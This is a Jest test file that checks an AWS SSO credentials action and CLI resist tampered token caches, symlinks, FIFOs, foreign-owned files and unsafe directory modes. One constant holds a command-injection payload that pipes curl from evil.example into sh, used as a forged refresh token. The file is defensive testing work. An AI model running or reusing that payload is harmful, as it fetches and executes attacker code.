import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, linkSync } from 'node:fs';
import { chmod, chown, mkdir, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { SeededSession } from '../../emulator/index.js';
import { expectFailedCleanly, refreshInputs, runAgainst } from '../support/action.js';
import { expectNoCliLeaks, runCli, START_URL, writeSeededSession } from '../support/cli.js';
import { calls } from '../support/emulator.js';
import { useEmulator } from '../support/emulator-fixtures.js';
import { GitHubSecretsStandIn } from '../support/github-secrets.js';
import { otherUser } from '../support/other-user.js';
import { type ActionResult, cleanupRuns } from '../support/runner.js';
import { expectNoLeaks, scannable } from '../support/secrets.js';
import { removeDir, tempHome } from '../support/temp-dirs.js';
import { expectOnlyIntendedCommands } from './harness.js';

/**
 * renew-credentials leaves a session on the runner's disk, and the post step reads it back after
 * every later step of the job had the chance to change it (docs/security.md, "Read-back"). Each
 * attack below runs the built bundles: the main step, the attack, the post step. Whatever the
 * attack, nothing it chose reaches the secret (the GitHub stand-in shows what was written),
 * nothing secret or attacker-chosen reaches the log (masks included), and the post step removes
 * what the step added.
 */

const emulator = useEmulator();
const GITHUB_TOKEN = 'github_pat_READBACK_0123456789abcdefghij';
const SECRET = 'SSO_REFRESH_TOKEN';
// biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's ${IFS}, as the attacker writes it
const HOSTILE_TOKEN = '$(curl${IFS}-s${IFS}evil.example|sh)';
let github: GitHubSecretsStandIn;

beforeAll(async () => {
  github = await GitHubSecretsStandIn.start({ repository: 'example/harness', token: GITHUB_TOKEN });
});
afterAll(async () => {
  await github.stop();
  await cleanupRuns();
});

interface Session {
  readonly seeded: SeededSession;
  readonly main: ActionResult;
  readonly cacheFile: string;
  /** What the main step wrote to the secret (its own refresh rotated the token). */
  readonly stored: string;
}

/** The main step with renew-credentials and update-secret; the secret holds its rotated token. */
async function startSession(home?: string): Promise<Session> {
  const seeded = emulator.seedSession({ startUrl: START_URL });
  const main = await runAgainst(
    emulator,
    {
      ...refreshInputs(seeded),
      'renew-credentials': 'profile',
      'sso-start-url': START_URL,
      'update-secret': SECRET,
      'github-token': GITHUB_TOKEN,
    },
    { env: { GITHUB_API_URL: github.url }, ...(home ? { home } : {}) },
  );
  expect(main.errors).toEqual([]);
  const config = await readFile(join(main.home, '.aws', 'config'), 'utf8');
  const name = /^\[sso-session (\S+)\]$/m.exec(config)?.[1] ?? '';
  const sha1 = createHash('sha1').update(name).digest('hex');
  const cacheFile = join(main.home, '.aws', 'sso', 'cache', `${sha1}.json`);
  const stored = github.secret(SECRET) ?? '';
  expect(stored).toBe(main.outputs['refresh-token']);
  return { seeded, main, cacheFile, stored };
}

const cacheOf = async (session: Session) => JSON.parse(await readFile(session.cacheFile, 'utf8'));

/**
 * The post step, and what every case asserts of it: it succeeds, the secret holds what it held
 * (or `expected`), no secret and no attacker value is in the log or masked, and the cache and
 * the config the step wrote are gone. Returns its warnings.
 */
async function closeAndCheck(
  session: Session,
  attacker: readonly string[],
  expected = session.stored,
): Promise<string[]> {
  const post = await session.main.runPost();
  expect(post.exitCode).toBe(0);
  expectOnlyIntendedCommands([post.stdout, post.stderr]);
  expect(github.secret(SECRET)).toBe(expected);
  expectNoLeaks(post, scannable([...emulator.issuedSecrets(), GITHUB_TOKEN, ...attacker]));
  for (const value of attacker) expect(post.masks).not.toContain(value);
  expect(existsSync(session.cacheFile)).toBe(false);
  expect(existsSync(join(session.main.home, '.aws', 'config'))).toBe(false);
  return post.warnings.map((w) => w.message);
}

const CHANGED = (reason: RegExp) =>
  expect.stringMatching(
    new RegExp(
      `^The token cache of this step's session \\(.*\\.json\\) was changed by something else in the job \\(${reason.source}\\): nothing from it was used`,
    ),
  );

/** A refresh grant as a tool of the job sends it: the emulator rotates the token. */
async function refreshAsATool(session: Session, refreshToken: string): Promise<string> {
  const response = await fetch(`${emulator.url}/token`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({
      clientId: session.seeded.clientId,
      clientSecret: session.seeded.clientSecret,
      grantType: 'refresh_token',
      refreshToken,
    }),
  });
  expect(response.status).toBe(200);
  return ((await response.json()) as { refreshToken: string }).refreshToken;
}

describe('the post step reads the token cache back as untrusted input', () => {
  test('a tool of the job rotated the token: redeemed once, and what the service answers is written back', async () => {
    const session = await startSession();
    const rotated = await refreshAsATool(session, session.stored);
    await writeFile(
      session.cacheFile,
      JSON.stringify({ ...(await cacheOf(session)), refreshToken: rotated }),
    );
    const since = Date.now();
    const post = session.main.runPost();
    const result = await post;
    expect(result.exitCode).toBe(0);
    const written = github.secret(SECRET) ?? '';
    expect(written).not.toBe(rotated);
    expect(emulator.isRefreshTokenValid(written)).toBe(true);
    const redemptions = emulator.requests.filter((r) => r.path === '/token' && r.time >= since);
    expect(redemptions.map((r) => (r.body as { clientId?: string }).clientId)).toEqual([
      session.seeded.clientId,
    ]);
    expect(result.warnings).toEqual([]);
    expect(result.log.join('\n')).toMatch(/'SSO_REFRESH_TOKEN' now holds the new refresh token/);
    expectNoLeaks(result, scannable([...emulator.issuedSecrets(), GITHUB_TOKEN]));
    expect(existsSync(session.cacheFile)).toBe(false);
  }, 120_000);

  test('a command of the attacker’s choosing as the refresh token: refused by the service, nothing written', async () => {
    const session = await startSession();
    await writeFile(
      session.cacheFile,
      JSON.stringify({ ...(await cacheOf(session)), refreshToken: HOSTILE_TOKEN }),
    );
    expect(await closeAndCheck(session, [HOSTILE_TOKEN])).toEqual([
      expect.stringMatching(
        /^IAM Identity Center did not accept the refresh token in the token cache \(.*\), which something in the job put there: the secret you pass as 'refresh-token' may no longer work\. .*Nothing was written back\./,
      ),
    ]);
  }, 120_000);

  test('a well-formed refresh token the service never issued: refused, nothing written', async () => {
    const session = await startSession();
    const forged = `aorAAAAAG${'x'.repeat(60)}`;
    await writeFile(
      session.cacheFile,
      JSON.stringify({ ...(await cacheOf(session)), refreshToken: forged }),
    );
    const warnings = await closeAndCheck(session, [forged]);
    expect(warnings).toEqual([expect.stringMatching(/did not accept the refresh token/)]);
  }, 120_000);

  test.each([
    [
      'another client registration (its secret one character long)',
      (other: SeededSession) => ({ clientId: other.clientId, clientSecret: 's' }),
      /it holds another client registration/,
    ],
    [
      'another start URL',
      () => ({ startUrl: 'https://evil.example/start' }),
      /it names another region or start URL/,
    ],
    ['another region', () => ({ region: 'eu-west-1' }), /it names another region or start URL/],
  ])(
    'a cache from %s: nothing from it is used, redeemed or masked',
    async (_what, change, why) => {
      const session = await startSession();
      const other = emulator.seedSession();
      const changed = {
        ...(await cacheOf(session)),
        refreshToken: other.refreshToken,
        ...change(other),
      };
      await writeFile(session.cacheFile, JSON.stringify(changed));
      const since = Date.now();
      // What the attacker chose; the rest of the document is the step's own.
      const chosen = [other.refreshToken ?? '', ...Object.values(change(other))];
      const warnings = await closeAndCheck(session, chosen);
      expect(warnings).toEqual([CHANGED(why)]);
      expect(emulator.requests.filter((r) => r.time >= since)).toEqual([]);
      expect(emulator.isRefreshTokenValid(other.refreshToken ?? '')).toBe(true);
    },
    120_000,
  );

  const foreign = `aorAAAAAGforeign${'y'.repeat(40)}`;
  test.each([
    [
      'a FIFO (the post step must not block)',
      async (file: string) => {
        await rm(file);
        execFileSync('mkfifo', ['-m', '600', file]);
      },
      /it is not a regular file/,
    ],
    [
      'a symbolic link to a file of the attacker',
      async (file: string, session: Session) => {
        const elsewhere = join(session.main.home, 'attacker.json');
        await writeFile(
          elsewhere,
          JSON.stringify({ ...(await cacheOf(session)), refreshToken: foreign }),
          { mode: 0o600 },
        );
        await rm(file);
        await symlink(elsewhere, file);
      },
      /it is a symbolic link/,
    ],
    [
      'a file of another user',
      async (file: string, session: Session) => {
        const { uid } = otherUser();
        const text = JSON.stringify({ ...(await cacheOf(session)), refreshToken: foreign });
        await rm(file);
        await writeFile(file, text, { mode: 0o600 });
        await chown(file, uid, uid);
      },
      /it belongs to another user \(uid \d+\)/,
    ],
    [
      'a file others may write to',
      async (file: string, session: Session) => {
        await writeFile(
          file,
          JSON.stringify({ ...(await cacheOf(session)), refreshToken: foreign }),
        );
        await chmod(file, 0o666);
      },
      /its mode is 0666: other users may change it/,
    ],
  ])(
    'the cache path replaced by %s: refused, and removed',
    async (_what, replace, why) => {
      const session = await startSession();
      await replace(session.cacheFile, session);
      const warnings = await closeAndCheck(session, [foreign]);
      expect(warnings).toEqual([CHANGED(why)]);
      // A link is removed, not what it points to.
      const elsewhere = join(session.main.home, 'attacker.json');
      if (existsSync(elsewhere)) expect(await readFile(elsewhere, 'utf8')).toContain(foreign);
    },
    120_000,
  );
});

describe('the directories the step writes the cache into', () => {
  test.each([
    [
      '~/.aws/sso/cache pre-created by another user, mode 0777',
      join('.aws', 'sso', 'cache'),
      0o777,
      true,
    ],
    ['~/.aws writable by its group', '.aws', 0o775, false],
  ])(
    '%s: the step fails before any request, naming it',
    async (_what, relative, mode, foreign) => {
      const home = await tempHome('hostile-dirs');
      try {
        const directory = join(home, relative);
        await mkdir(directory, { recursive: true, mode: 0o700 });
        await chmod(directory, mode);
        if (foreign) {
          const { name, uid } = otherUser();
          await chown(directory, uid, uid);
          // She puts a file of hers where the step would write; the step must not get that far.
          for (const dir of [home, join(home, '.aws'), join(home, '.aws', 'sso')]) {
            await chmod(dir, 0o711);
          }
          execFileSync('runuser', ['-u', name, '--', 'touch', join(directory, 'planted.json')]);
        }
        emulator.clearRequests();
        const seeded = emulator.seedSession({ startUrl: START_URL });
        const result = await runAgainst(
          emulator,
          { ...refreshInputs(seeded), 'renew-credentials': 'profile', 'sso-start-url': START_URL },
          { home },
        );
        expect(expectFailedCleanly(result)).toMatch(
          new RegExp(
            `^${directory.replaceAll('.', '\\.')} (belongs to another user \\(uid \\d+\\)|can be written by other users \\(mode 0775\\)): .*chmod go-w`,
          ),
        );
        expect(calls(emulator)).toEqual([]);
        expect(existsSync(join(home, '.aws', 'config'))).toBe(false);
        expect((await stat(directory)).mode & 0o777).toBe(mode);
      } finally {
        await removeDir(home);
      }
    },
    120_000,
  );
});

describe('login --output is checked before the sign-in starts', () => {
  const login = (output: string, home: string) =>
    runCli(
      [
        'login',
        '--use-device-code',
        '--no-browser',
        '--start-url',
        START_URL,
        '--sso-region',
        'us-east-1',
        '--output',
        output,
      ],
      { emulator, home, timeoutMs: 60_000 },
    );

  test.each([
    [
      'an existing directory',
      async (p: string) => {
        await mkdir(p, { mode: 0o755 });
      },
      /it is a directory/,
      '',
    ],
    [
      'a FIFO',
      async (p: string) => {
        execFileSync('mkfifo', [p]);
      },
      /it is not a regular file/,
      '',
    ],
    [
      'a path under a regular file',
      async (p: string) => writeFile(p, 'mine'),
      /a part of its path is not a directory/,
      'session.json',
    ],
    [
      'a path in a missing directory',
      async () => undefined,
      /its directory does not exist/,
      'x/y.json',
    ],
  ] as const)(
    '%s: refused, no request, nothing changed',
    async (_what, make, why, below = '') => {
      const home = await tempHome('hostile-output');
      try {
        const path = join(home, 'target');
        await make(path);
        const before = existsSync(path) ? await stat(path) : undefined;
        emulator.clearRequests();
        const output = below ? join(path, below) : path;
        const result = await login(output, home);
        expect(result.code).toBe(1);
        expect(result.stdout).toBe('');
        expect(result.stderr.trim()).toMatch(
          new RegExp(
            `^aws-sso-credentials: Cannot write the session document to .* \\(--output\\): (${why.source})\\.$`,
          ),
        );
        expect(calls(emulator)).toEqual([]);
        if (before) {
          const after = await stat(path);
          expect([after.ino, after.mode]).toEqual([before.ino, before.mode]);
        }
      } finally {
        await removeDir(home);
      }
    },
    60_000,
  );

  test('an existing file is replaced by a new 0600 one; the old one is not chmodded', async () => {
    const home = await tempHome('hostile-output');
    try {
      const file = join(home, 'session.json');
      await writeFile(file, 'old', { mode: 0o644 });
      await chmod(file, 0o644);
      // A second name of the old file shows what happened to it.
      linkSync(file, join(home, 'old-name'));
      emulator.autoApproveDevices(0);
      const result = await login(file, home);
      emulator.autoApproveDevices(Number.POSITIVE_INFINITY);
      expect(result.code).toBe(0);
      expect((await stat(file)).mode & 0o777).toBe(0o600);
      expect(JSON.parse(await readFile(file, 'utf8'))).toHaveProperty('refreshToken');
      const old = await stat(join(home, 'old-name'));
      expect(old.mode & 0o777).toBe(0o644);
      expect(await readFile(join(home, 'old-name'), 'utf8')).toBe('old');
    } finally {
      await removeDir(home);
    }
  }, 60_000);
});

describe("the CLI's session file (--session) is read as untrusted input", () => {
  const accounts = (file: string, home: string) =>
    runCli(['accounts', '--session', file, '--json'], { emulator, home, timeoutMs: 60_000 });

  test.each([
    [
      'writable by others',
      async (file: string) => chmod(file, 0o666),
      /its mode is 0666: other users may change it/,
    ],
    [
      'of another user',
      async (file: string) => {
        const { uid } = otherUser();
        await chown(file, uid, uid);
      },
      /it belongs to another user \(uid \d+\)/,
    ],
  ])(
    'a session file %s is refused before any request',
    async (_what, spoil, why) => {
      const home = await tempHome('hostile-session');
      try {
        const file = join(home, 'session.json');
        await writeSeededSession(emulator, file);
        await spoil(file);
        emulator.clearRequests();
        const result = await accounts(file, home);
        expect(result.code).toBe(1);
        expect(result.stdout).toBe('');
        expect(result.stderr.trim()).toMatch(
          new RegExp(`^aws-sso-credentials: Cannot read the session file .*: ${why.source}\\.`),
        );
        expect(calls(emulator)).toEqual([]);
        expectNoCliLeaks(result, emulator.issuedSecrets(), { stdout: true });
      } finally {
        await removeDir(home);
      }
    },
    60_000,
  );

  test('a link the user made to their session file is followed', async () => {
    const home = await tempHome('hostile-session');
    try {
      const file = join(home, 'real-session.json');
      await writeSeededSession(emulator, file);
      await symlink(file, join(home, 'session.json'));
      const result = await accounts(join(home, 'session.json'), home);
      expect(result.code).toBe(0);
      expect(JSON.parse(result.stdout)).toEqual(expect.any(Array));
    } finally {
      await removeDir(home);
    }
  }, 60_000);
});
